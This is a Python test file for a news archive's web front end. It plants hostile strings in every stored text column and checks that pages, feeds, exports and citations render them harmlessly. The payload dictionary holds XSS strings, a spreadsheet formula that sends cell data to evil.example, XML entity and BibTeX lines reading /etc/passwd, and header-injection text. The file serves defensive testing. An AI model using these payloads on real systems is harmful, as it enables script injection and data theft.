"""Hostile rows are harmless in every page, feed and export: each text column of every table that pages read holds them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from urllib.parse import quote, urlencode
from xml.etree import ElementTree as ET

import httpx
import pytest

from pipelines.store.schema import TABLES

from .conftest import SEEN, Scribe

ATTACKS = {
    "script": "</title></script><script>alert(1)</script>",
    "attributes": "\"'><img src=x onerror=alert(2)><svg onload=alert(3)>",
    "template": "{{ 7 * 7 }}{% raw %}<style>*{display:none}</style>",
    "link": "javascript:alert(document.cookie)//https://x.example/",
    "formula": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "turned": "\u202egnp.exe\u202d \u2066left open \u200f",
    "controls": "\x00\x01\x08 nul\r\nTY  - JOUR\r\nX-Injected: 1\x1b[31m \ufffe",
    "xml": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<?php ?>",
    "bibtex": "}},\n@misc{evil, title={\\input{/etc/passwd}",
    "long": "long " * 200_000,
    "surrogates": "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace") + "🏴‍☠️" * 50,
}
"""What the worst page of the web would say of itself, by kind."""

MOST_KEPT = 5_000
"""Characters of what a facet counts: reading keeps less of any page (sections, tags and names are cut there)."""

DAY = "2013-01-0"
_KEPT = frozenset(("state", "publish", "published_precision", "media_type", "digest", "kind", "role", "precision", "outcome",
                   "form", "timezone", "alarm", "first_by", "public_id", "file"))  # fmt: skip
"""Text columns whose values newsbot chooses itself."""


def _said(table: str, attack: str) -> dict[str, str]:
    """The attack for each text column of a table that holds what a page said."""
    columns = next(one for one in TABLES if one.name == table).columns
    return {
        column.name: attack
        for column in columns
        if column.type.startswith("TEXT")
        and column.name not in _KEPT
        and not column.name.endswith(("_at", "_day", "_sort", "_month"))
    }


def _row(scribe: Scribe, table: str, attack: str, **known: object) -> None:
    scribe.insert(table, **{**_said(table, attack), **known})


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, publish) -> Callable[..., httpx.Response]:
    scribe = Scribe(tmp_path_factory.mktemp("hostile") / "archive.db")
    for number, attack in enumerate(ATTACKS.values(), start=1):
        _article(scribe, number, attack)
    return publish(scribe.finish())


def _article(scribe: Scribe, number: int, attack: str) -> None:
    source = attack[:200].replace("\x00", "") + str(number)
    _row(scribe, "sources", attack[:MOST_KEPT], id=source, timezone=None, publish="full", first_seen_at=SEEN)
    short = attack[:MOST_KEPT]
    texts = {
        **_said("articles", attack),
        "section": short,
        "place": short,
        "country": short[:80],
        "language": short[:80],
    }
    scribe.article(
        number,
        **{**texts, "source": source, "reading": "1", "dateline_date": "2013-01-01", "dateline_month_day": None},
        published_day=f"{DAY}{number % 9 + 1}",
        published_at=f"{DAY}{number % 9 + 1}T10:00:00Z",
        text=f"{attack}\n\nNothing else.",
        tags=[short], authors=[short], agencies=[short], revisions=2, changed_at=SEEN, cluster=1, capture=number,
    )  # fmt: skip
    key = f"morning.example/{number}"
    scribe.connection.execute(
        "UPDATE article_text SET markdown = ? WHERE article = ?", (f"## {attack}\n\n> {attack}", number)
    )
    _row(scribe, "captures", attack, id=number, key=key, file="nowhere.warc.gz", offset=0, length=1, captured_at=SEEN,
         status=200, payload_bytes=1, media_type="text/html", digest="sha1:X")  # fmt: skip
    _row(
        scribe,
        "evidence",
        attack,
        key=key,
        kind="date",
        role="published",
        precision="day",
        chosen=1,
        confidence=0.5,
        seen_at=SEEN,
    )
    _row(scribe, "removed_blocks", attack, article=number, position=0)
    _row(scribe, "article_images", attack, article=number, position=0)
    _row(scribe, "article_notes", attack, article=number, position=0, kind="correction")
    _row(scribe, "corrections", attack, article=number, field="place", made_at=SEEN)
    _row(scribe, "rights", attack, capture=number)
    _row(scribe, "places", attack, name=short, country="IQ", latitude=30.0 + number, longitude=40.0)
    for at, changed in enumerate(("headline,lede,figure,byline,text", "removed"), start=1):
        _row(scribe, "revisions", f"before {attack}", article=number, kind="publisher", changed=changed,
             seen_at=f"2026-11-2{at}T06:00:00Z", capture=None)  # fmt: skip
    for outcome in ("failed", "skipped"):
        _row(
            scribe,
            "fetches",
            attack,
            source=source,
            kind="article",
            visited_at=SEEN,
            outcome=outcome,
            reason="timeout",
            run=None,
        )
    _row(
        scribe,
        "alarms",
        attack,
        source=source,
        alarm="silence",
        raised_at=SEEN,
        seen_at=SEEN,
        cleared_at=None,
    )
    if number == 1:
        scribe.insert("clusters", id=1, text_hash="h", first_article=1, articles=len(ATTACKS))
    if number == 2:
        _row(scribe, "live_entries", attack, article=number, position=0, at=None)


def _paths() -> Iterator[tuple[str, str]]:
    """Every kind of page, feed and export by a name, what a reader may type included."""
    yield from {
        "front": "/",
        "listing": "/archive/articles",
        "rows": "/archive/articles?_layout=rows",
        "changes": "/changes",
        "map": "/map?view=world",
        "sources": "/sources",
        "dictionary": "/dictionary",
        "stock table": "/archive/articles?_view=table",
        "stock row": "/archive/sources",
        "stock JSON": "/archive/articles.json?_size=max",
        "CSV": "/export/articles.csv?text=1",
        "JSON Lines": "/export/articles.jsonl?text=1",
        "Parquet": "/export/articles.parquet?text=1",
        "Atom": "/feeds/articles.atom",
        "JSON Feed": "/feeds/articles.json",
        "Atom of changes": "/feeds/changes.atom",
        "JSON Feed of changes": "/feeds/changes.json",
    }.items()
    for facet in ("section", "place", "author", "tag", "agency", "source"):
        yield f"values of {facet}", f"/archive/articles?facet={facet}"
    for number, (name, attack) in enumerate(ATTACKS.items(), start=1):
        typed = urlencode({"_search": attack[:300], "section": attack[:300]})
        yield f"article: {name}", f"/a/p{number:06d}"
        yield f"comparison: {name}", f"/a/p{number:06d}/compare"
        yield f"source: {name}", "/sources/" + quote(attack[:200].replace("\x00", "") + str(number), safe="")
        yield f"typed: {name}", f"/archive/articles?{typed}"
        yield f"typed, as a feed: {name}", f"/feeds/articles.atom?{typed}"
        yield f"typed twice: {name}", "/attention?" + urlencode({"q": attack[:300], "q2": attack[:300]})
        yield f"typed, counted: {name}", "/attention.csv?" + urlencode({"q": attack[:300]})
        yield f"typed many: {name}", "/batch?" + urlencode({"queries": attack[:300]})
        yield (
            f"typed many, as a file: {name}",
            "/batch.csv?"
            + urlencode({"queries": f'query,more\nbridge,"{attack[:99].replace(chr(34), "")}"'}),
        )
        yield f"no such page: {name}", "/" + quote(attack[:200].replace("\x00", ""), safe="")
        for kind in ("bib", "ris", "json"):
            yield f"{kind}: {name}", f"/a/p{number:06d}/cite.{kind}"


class Markup(HTMLParser):
    """What in a page could act."""

    def __init__(self) -> None:
        super().__init__()
        self.acts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        ours = tag == "script" and given.get("src", "").startswith(("/assets/", "/-/static/"))
        if tag in ("script", "iframe", "object", "embed", "img", "style", "base", "meta", "form") and not (
            ours
            or (tag == "meta" and "http-equiv" not in given)
            or (tag == "form" and given.get("action", "/").startswith("/"))
        ):
            self.acts.append(f"<{tag}> {given}")
        if tag == "svg" and not given.get("class", "").startswith("chart"):
            self.acts.append("<svg>")
        self.acts += [f"{name} in <{tag}>" for name in given if name.startswith("on") or name == "style"]
        for name in ("href", "src", "action", "xlink:href"):
            if name in given and not re.match(r"https?://[^\s]|/(?!/)|#|\?|[\w.]+\?", given[name]):
                self.acts.append(f"{name}={given[name][:80]}")


def html_is_harmless(body: str, allowed: tuple[str, ...] = ()) -> None:
    page = Markup()
    page.feed(body)
    assert [act for act in page.acts if act not in allowed] == []


def ours_is_harmless(body: str) -> None:
    """Our own pages moreover are bounded and turn no text round."""
    html_is_harmless(body)
    assert len(body) < 1_500_000
    # What was typed stands in its field again, as it was: a field is a text of its own.
    shown = re.sub(r"<textarea.*?</textarea>|<(?:input|option)[^>]*>", "", body, flags=re.S)
    turning = re.finditer("[\u202d\u202e\x00\x1b]", shown)
    found = [shown[max(0, at.start() - 90) : at.start() + 30] for at in turning]
    assert found == []


def atom_is_harmless(body: str) -> None:
    root = ET.fromstring(body)  # noqa: S314  (our own)
    assert "<!" not in body[40:]
    for element in root.iter():
        assert element.get("type") in (
            None,
            "text",
            "application/atom+xml",
            "application/feed+json",
            "text/html",
        )
        assert re.match(r"https?://", element.get("href", "http://"))


def json_is_harmless(body: str) -> None:
    def walk(value: object, name: str = "") -> None:
        for key, part in value.items() if isinstance(value, dict) else ():
            walk(part, key)
        for part in value if isinstance(value, list) else ():
            walk(part)
        assert not (
            name in ("external_url", "home_page_url", "feed_url") and not str(value).startswith("http")
        )

    walk(json.loads(body))


def lines_are_harmless(body: str) -> None:
    assert [json.loads(line)["public_id"] for line in body.split("\n") if line]


def csv_is_harmless(body: str) -> None:
    csv.field_size_limit(10_000_000)
    header, *rows = csv.reader(io.StringIO(body, newline=""))
    for row in rows:
        assert len(row) == len(header)
        assert [
            cell[:20]
            for cell in row
            if re.match(r"[=+\-@\t\r]", cell) and not re.fullmatch(r"-?[\d.]+", cell)
        ] == []


def ris_is_harmless(body: str) -> None:
    assert all(re.match(r"[A-Z][A-Z0-9]  - ", line) for line in body.splitlines() if line)
    assert body.count("TY  - ") == 1


def bib_is_harmless(body: str) -> None:
    bare = re.sub(r"\\[{}\\]", "", body)
    assert bare.count("{") == bare.count("}")
    assert len(re.findall(r"^@", body, re.M)) == 1


CHECKS: dict[str, Callable[[str], None]] = {
    "text/html": ours_is_harmless,
    "application/atom+xml": atom_is_harmless,
    "application/feed+json": json_is_harmless,
    "application/json": json_is_harmless,
    "application/vnd.citationstyles.csl+json": json_is_harmless,
    "application/x-ndjson": lines_are_harmless,
    "text/csv": csv_is_harmless,
    "application/x-research-info-systems": ris_is_harmless,
    "application/x-bibtex": bib_is_harmless,
}


@pytest.mark.parametrize(("name", "path"), [pytest.param(*one, id=one[0]) for one in _paths()])
def test_hostile_rows_are_harmless(hostile, name: str, path: str) -> None:
    answer = hostile(path, follow_redirects=True)
    assert answer.status_code in ((404,) if name.startswith("no such page") else (200,)), answer.text[:300]
    assert "x-injected" not in answer.headers
    kind = answer.headers["content-type"].partition(";")[0]
    if kind == "application/vnd.apache.parquet":
        assert answer.content[:4] == answer.content[-4:] == b"PAR1"
        return
    if name.startswith("stock") and kind == "text/html":
        html_is_harmless(
            answer.text, allowed=("style in <div>",)
        )  # Datasette's own; our policy lets none act
        return
    CHECKS[kind](answer.text)
